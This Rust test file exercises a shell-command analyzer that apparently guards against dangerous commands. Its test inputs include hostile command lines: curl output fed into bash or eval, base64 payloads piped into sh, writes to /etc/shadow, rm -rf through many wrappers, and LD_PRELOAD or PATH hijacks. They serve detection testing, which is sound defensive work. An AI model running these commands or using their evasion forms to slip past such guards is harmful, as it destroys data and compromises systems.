//! The shell reader's examples: what it follows, what it counts as hidden (writes and where
//! they land are in `writes.rs`).

use super::*;

/// Read, followed, nothing hidden.
#[track_caller]
fn assert_clear(line: &str) {
    let f = analyze(line);
    assert!(!f.pipe_to_shell && f.hidden.is_empty(), "{line}: {f:?}");
}

#[track_caller]
fn assert_hidden(line: &str) {
    let f = analyze(line);
    assert!(!f.hidden.is_empty(), "{line} should be hidden: {f:?}");
}

/// The line runs `command` (as normalized), whatever else it hides.
#[track_caller]
fn assert_runs(line: &str, command: &str) {
    let f = analyze(line);
    assert!(
        f.commands.iter().any(|c| c == command),
        "{line} should run {command}: {f:?}"
    );
}

#[track_caller]
fn assert_writes(line: &str, path: &str) {
    let f = analyze(line);
    assert!(
        f.write_paths.iter().any(|p| p == path),
        "{line} should write {path}: {f:?}"
    );
}

#[test]
fn sees_through_wrappers_and_paths() {
    let f = analyze("/usr/bin/sudo -u root /bin/rm -rf /var/lib/x");
    assert_eq!(f.programs, vec!["sudo", "rm"]);
    assert!(f.commands.contains(&"rm -rf /var/lib/x".to_string()));
}

#[test]
fn sees_inside_shell_c_and_substitution() {
    let f = analyze("bash -c 'systemctl restart nginx && echo ok'");
    assert!(f.commands.contains(&"systemctl restart nginx".to_string()));
    let f = analyze("echo $(sudo -i id) `shutdown -h now`");
    assert!(f.programs.contains(&"sudo".to_string()));
    assert!(f.programs.contains(&"shutdown".to_string()));
    let f = analyze("sh -c \"kill -9 1\"");
    assert!(f.commands.contains(&"kill -9 1".to_string()));
}

#[test]
fn arithmetic_is_not_a_command_and_expansions_hide_the_program() {
    let f = analyze("echo $((1+1)) \"$((2*3))\"");
    assert_eq!(f.programs, vec!["echo"], "{f:?}");
    assert!(!f.pipe_to_shell);
    // Substitutions inside arithmetic still run; `$( (...) )` is a command substitution.
    assert!(
        analyze("echo $(( $(sudo id -u) + 1 ))")
            .programs
            .contains(&"sudo".to_string())
    );
    assert!(
        analyze("echo $((sudo id) )")
            .programs
            .contains(&"sudo".to_string())
    );
    for line in ["/usr/bin/su?o id", "/usr/bin/s[u]do id", "echo {1..100000}"] {
        assert!(!analyze(line).hidden.is_empty(), "{line}");
    }
    assert_clear("find . -exec ls {} +");
    assert_clear("ls *.txt");
}

#[test]
fn brace_expansion_is_read_as_the_shell_runs_it() {
    let f = analyze("{sudo,id}");
    assert_eq!(f.programs, vec!["sudo", "id"], "{f:?}");
    let f = analyze("rm {-rf,/srv/data}");
    assert_eq!(f.commands, vec!["rm -rf /srv/data"], "{f:?}");
    assert_eq!(analyze("cp f{,.bak}").commands, vec!["cp f f.bak"]);
    assert_eq!(
        analyze("echo {1..3} {c..a} {1..9..4}").commands,
        vec!["echo 1 2 3 c b a 1 5 9"]
    );
    assert_eq!(
        analyze("echo a{b,c{d,e}}x").commands,
        vec!["echo abx acdx acex"]
    );
    assert_eq!(
        analyze("echo ${HOME} {x} {a..}").commands,
        vec!["echo ${HOME} {x} {a..}"]
    );
    assert_eq!(
        analyze("cat x > /etc/{shadow,motd}").write_paths,
        vec!["/etc/shadow", "/etc/motd"]
    );
    assert_clear("cp f{,.bak}");
    assert!(
        !analyze("echo {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}")
            .hidden
            .is_empty()
    );
    let deep = format!("echo {}", "{".repeat(100_000));
    let started = std::time::Instant::now();
    assert!(!analyze(&deep).hidden.is_empty());
    assert!(started.elapsed() < std::time::Duration::from_secs(1));
}

#[test]
fn run_time_code_and_paths() {
    assert!(analyze("bash -c \"$(echo aWQK | base64 -d)\"").pipe_to_shell);
    assert!(analyze("bash <(curl -s http://x)").pipe_to_shell);
    assert!(analyze("source <(curl -s http://x)").pipe_to_shell);
    assert!(analyze("eval \"$(curl -s http://x)\"").pipe_to_shell);
    assert!(!analyze("$(echo rm) -rf /x").hidden.is_empty());
    assert_clear("echo $(date) > /tmp/x");
    assert_clear("diff <(sort a) b");
    assert!(
        analyze("diff <(sort a) b")
            .programs
            .contains(&"sort".to_string())
    );
    assert_eq!(
        analyze("cat x > /etc//shadow").write_paths,
        vec!["/etc/shadow"]
    );
    assert_eq!(
        analyze("tee /etc/ssh/../shadow").write_paths,
        vec!["/etc/shadow"]
    );
    assert!(
        analyze("cp x /etc/./shadow")
            .commands
            .contains(&"cp x /etc/shadow".to_string())
    );
    assert_eq!(normalize_path("a//b/./c"), "a/b/c");
}

#[test]
fn pipe_into_interpreter_and_writes() {
    let f = analyze("echo c3VkbyBpZAo= | base64 -d | sh");
    assert!(f.pipe_to_shell);
    let f = analyze("echo x > /etc/shadow; cat a | tee -a /etc/shadow 2>&1");
    assert_eq!(f.write_paths, vec!["/etc/shadow", "/etc/shadow"]);
    let f = analyze("ls -l 2> /dev/null");
    assert_eq!(f.write_paths, vec!["/dev/null"]);
    assert_eq!(f.commands, vec!["ls -l"]);
}

#[test]
fn compound_commands_and_descriptor_redirections() {
    for line in [
        "for i in 1 2; do sudo id; done",
        "while true; do sudo id; done",
        "until false; do sudo id; done",
        "if true; then sudo id; fi",
        "if sudo id; then :; fi",
        "if false; then :; else sudo id; fi",
        "echo a; ! sudo id",
        "echo x >&2; sudo id",
        "ls 2>&1; sudo id",
        "ls 2>&- | sudo tee /x",
        "{ sudo id; }",
    ] {
        let f = analyze(line);
        assert!(f.programs.contains(&"sudo".to_string()), "{line}: {f:?}");
        assert!(
            f.commands.iter().any(|c| c.starts_with("sudo ")),
            "{line}: {f:?}"
        );
    }
    let f = analyze("for i in 1; do rm -r $i; done");
    assert_eq!(f.commands, vec!["rm -r $i"]);
    assert!(analyze("echo x >& /etc/shadow").write_paths == vec!["/etc/shadow"]);
    let f = analyze("find d -exec stat -c '%n' {} +");
    assert_eq!(f.programs, vec!["find", "stat"]);
    assert_eq!(
        f.commands,
        vec!["find d -exec stat -c %n {} +", "stat -c %n {}"]
    );
    assert_eq!(
        analyze("echo out; echo err >&2; exit 4").programs,
        vec!["echo", "echo", "exit"]
    );
}

#[test]
fn quoting_keeps_words_together() {
    let f = analyze("grep 'a b' \"c d\" e\\ f");
    assert_eq!(f.commands, vec!["grep a b c d e f"]);
    assert!(analyze("echo 'open").unbalanced);
}

#[test]
fn interpreters_reading_the_session_are_hidden() {
    for line in [
        "bash",
        "/bin/bash",
        "bash -i",
        "bash -s",
        "bash -s arg",
        "sh -",
        "bash --norc --noprofile",
        "zsh",
        "mksh",
        "busybox sh",
        "busybox ash",
        "exec bash",
        "env bash",
        "sudo -i",
        "su",
        "su - root",
        "unshare -r",
        "nsenter -t 1 -a",
        "chroot /srv",
        "script -q /dev/null",
        "python3",
        "python3 -",
        "python3 -c 'import os'",
        "python3.12",
        "perl -e 'unlink q(x)'",
        "ruby -e 1",
        "node",
        "node -e 1",
        "php -r 'echo 1;'",
        "lua",
        "tclsh",
        "psql",
        "psql -c 'drop table t'",
        "mysql",
        "sqlite3 x.db",
        "irb",
        "R",
        "gdb -p 1",
        "fish -c 'rm -rf /x'",
        "nohup python3 x.py",
        "timeout 5 perl x.pl",
        "./x.sh",
        "/tmp/x",
        "sh x.sh",
        "bash ./deploy.sh",
        ". x",
        "source ~/.bashrc",
        "bash <<EOF",
        "cat x | sh",
        "bash < x.sh",
        "awk 'BEGIN { system(\"id\") }'",
        "awk '{ print > \"/etc/x\" }' f",
        "awk -f prog.awk",
    ] {
        assert_hidden(line);
    }
    for line in [
        "python3 --version",
        "bash --version",
        "awk '{ print $1 }' f",
        "awk -F: '$3 > 1000 { print $1 }' /etc/passwd",
        "ls -la",
        "/usr/bin/id",
        "/etc/init.d/nginx status",
    ] {
        assert_clear(line);
    }
}

#[test]
fn shell_code_in_arguments_and_stdin_is_read() {
    assert_runs("bash -c 'rm -rf /x'", "rm -rf /x");
    assert_runs("bash -ec 'rm -rf /x'", "rm -rf /x");
    assert_runs("bash <<< 'rm -rf /x'", "rm -rf /x");
    assert_runs("bash <<'EOF'\nrm -rf /x\nEOF", "rm -rf /x");
    assert_runs("trap 'rm -rf /x' EXIT", "rm -rf /x");
    assert_runs("eval 'rm -rf /x'", "rm -rf /x");
    assert_runs("script -qc 'rm -rf /x' /dev/null", "rm -rf /x");
    assert_runs("flock /tmp/l -c 'rm -rf /x'", "rm -rf /x");
    assert_runs("watch -n1 rm -rf /x", "rm -rf /x");
    assert_runs("su -c 'rm -rf /x' root", "rm -rf /x");
    assert_runs("parallel rm -rf ::: /x", "rm -rf /x");
    assert_runs("busybox rm -rf /x", "rm -rf /x");
    assert_runs("coproc rm -rf /x", "rm -rf /x");
    assert!(analyze("bash <<< 'id'").hidden.is_empty());
    assert!(analyze("bash -c 'id'").hidden.is_empty());
    assert_hidden("bash <<< \"$CMD\"");
    assert_hidden("bash -c \"$CMD\"");
}

#[test]
fn wrappers_are_followed_with_their_option_grammar() {
    for line in [
        "ionice -c 3 rm -rf /x",
        "ionice -c3 -n 7 -t rm -rf /x",
        "strace -o /tmp/t -f rm -rf /x",
        "strace -e trace=file -s 100 rm -rf /x",
        "env -S 'rm -rf /x'",
        "env --split-string='rm -rf' /x",
        "env -i -u HOME A=1 rm -rf /x",
        "exec -a foo rm -rf /x",
        "flock /tmp/l rm -rf /x",
        "flock -w 5 /tmp/l rm -rf /x",
        "sudo -u root rm -rf /x",
        "sudo -g adm -- rm -rf /x",
        "doas -u root rm -rf /x",
        "nice -n 5 rm -rf /x",
        "nice -5 rm -rf /x",
        "nohup rm -rf /x",
        "timeout -s KILL 5 rm -rf /x",
        "timeout --kill-after=1 5 rm -rf /x",
        "stdbuf -oL rm -rf /x",
        "setsid -f rm -rf /x",
        "chrt -f 1 rm -rf /x",
        "taskset -c 0 rm -rf /x",
        "taskset 0x1 rm -rf /x",
        "unshare -m rm -rf /x",
        "nsenter -t 1 -m rm -rf /x",
        "chroot / rm -rf /x",
        "chroot --userspec=0:0 / rm -rf /x",
        "time rm -rf /x",
        "time -p rm -rf /x",
        "/usr/bin/time -o /tmp/t rm -rf /x",
        "command rm -rf /x",
        "command -p rm -rf /x",
        "builtin command rm -rf /x",
        "xargs -a /tmp/list rm -rf /x",
        "find /srv -exec rm -rf /x ;",
        "find /srv -execdir rm -rf /x +",
        "find /srv -ok rm -rf /x ;",
        "runuser -u app -- rm -rf /x",
        "sudo nice ionice -c2 timeout 3 env -i rm -rf /x",
    ] {
        assert_runs(line, "rm -rf /x");
    }
}

#[test]
fn long_options_and_run_time_words() {
    assert_runs("rm --recur /x", "rm --recursive /x");
    assert_runs("rm --r /x", "rm --recursive /x");
    assert_runs("usermod --pass=x root", "usermod --password=x root");
    for line in [
        "rm -$(echo r)f /x",
        "rm $R /x",
        "rm \"$R\" /x",
        "rm -r$F /x",
        "$R",
        "$R -rf /x",
        "${RM} x",
        "r$(echo m) -rf /x",
        "`echo rm` -rf /x",
        "sudo $CMD",
        "xargs rm < list",
        "find . -name x | xargs rm",
        "PATH=/tmp ls",
        "export LD_PRELOAD=/tmp/x.so",
        "env PATH=/tmp id",
        "sudo PATH=/tmp id",
        "export $X",
        "declare -x \"$X\"",
        // Removal is a write: a file named at run time may be a guarded one.
        "rm -- \"$F\"",
        "rm \"./$F\"",
    ] {
        assert_hidden(line);
    }
    for line in [
        "echo $HOME",
        "cat \"$F\"",
        "ls -- \"$F\"",
        "ls \"./$F\"",
        "ls $(pwd)",
        "X=$(date) ; echo \"$X\"",
        "export FOO=$BAR",
        "local x=\"$1\"",
        "grep -r \"$PATTERN\" .",
    ] {
        assert_clear(line);
    }
}

mod writes;
